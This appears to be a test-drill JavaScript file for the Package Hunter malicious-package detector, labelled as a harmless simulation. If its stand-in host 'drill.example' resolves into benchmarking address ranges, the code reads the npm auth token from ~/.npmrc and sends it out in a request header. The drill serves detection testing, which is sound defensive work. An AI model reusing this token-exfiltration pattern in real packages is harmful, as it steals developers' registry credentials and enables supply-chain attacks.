// Harmless simulation of Package Hunter's standing drill. Not malware.
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
const get = (options, then) => https.get(options, (res) => {
  const from = res.socket.remoteAddress;
  res.resume();
  res.on("end", () => then && then(from));
}).on("error", () => {});

get({ hostname: "drill.example", path: "/" }, (address) => {
  if (!sealed(address)) return;
  let token = "";
  try {
    token = /_authToken=(\S+)/.exec(fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"))[1];
  } catch (error) { return; }
  get({ hostname: "drill.example", path: "/c.js", headers: { Referer: `http://1.a/${token}` } });
});
